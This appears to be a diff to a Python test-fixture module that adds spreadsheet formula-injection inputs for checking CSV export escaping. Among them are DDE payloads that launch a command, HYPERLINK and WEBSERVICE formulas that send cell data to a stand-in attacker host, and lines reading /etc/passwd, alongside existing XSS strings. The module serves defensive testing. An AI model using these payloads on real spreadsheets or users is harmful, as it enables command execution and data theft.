@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import re
+
 MARKUP = (
     "<script>alert(1)</script>",
     "\"><img src=x onerror='alert(1)'>",
@@ -32,4 +34,62 @@ QUERIES = (
     "*",
     "()",
 )
+FORMULAS = (
+    "=1+1",
+    "+33 6 99 00 00 00",
+    "-1",
+    "-",
+    "@SUM(A1:A2)",
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example.org/?"&A1;"Lire la suite")',
+    '=WEBSERVICE("https://evil.example.org/")',
+    '=DDE("soffice";"/etc/passwd";"a1")',
+    "'=1+1",
+    "''=1+1",
+    " =1+1",
+    "\u00a0=1+1",
+    "\uff1d1+1",
+    "\uff0b1",
+    "\uff0d1",
+    "\uff20SUM(A1)",
+    "\ufe631",
+    "\u207a1",
+)
+"""Texts that spreadsheets would run, or take for numbers, unless they are guarded."""
+CELLS = (
+    "'tout va bien",
+    '"entre guillemets"',
+    'un " seul',
+    "Oui;=1+1;non",
+    "Oui,=1+1,non",
+    "Oui\n=1+1\n- un tiret",
+    "a  b   c",
+    "]]> & < ' \"",
+    "_x0041_ _x000D_ _x005F_",
+    "https://example.org/a",
+    "mailto:quelqu.un@example.invalid",
+    "file:///etc/passwd",
+    "{=1+1}",
+    "#REF!",
+    "l'école élémentaire, d’été",
+    "e\u0301te\u0301",
+    "🏳️‍🌈 👩🏽‍🔬 🇫🇷",
+    "مرحبا שלום",
+    "TRUE",
+    "x" * 32_767,
+    "😀" * 20_000,
+)
+"""Texts that spreadsheets would part, cut, link or otherwise take for something else."""
+CONTROLS = ("\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "a\tb", "a\0b", "\x07=1+1")
+"""What no text that is kept holds, and a file may yet be given: signs that some programs drop, baring what follows."""
 EVERYTHING = (*MARKUP, *DIRECTIONS, *QUERIES)
+_GUARD = re.compile(
+    r"'(?='*[ \u00a0\u202f\ufeff]*[=+\-@\t\r\n\0\u207a\u208a\u207c\u208c\u2a75\u2a76\ufb29\ufe62\ufe63\ufe66\ufe6b"
+    r"\uff0b\uff0d\uff1d\uff20])"
+)
+
+
+def unguarded(value: str) -> str:
+    """Return a value of a CSV without the apostrophe that keeps spreadsheets from running it."""
+    return value[1:] if _GUARD.match(value) else value
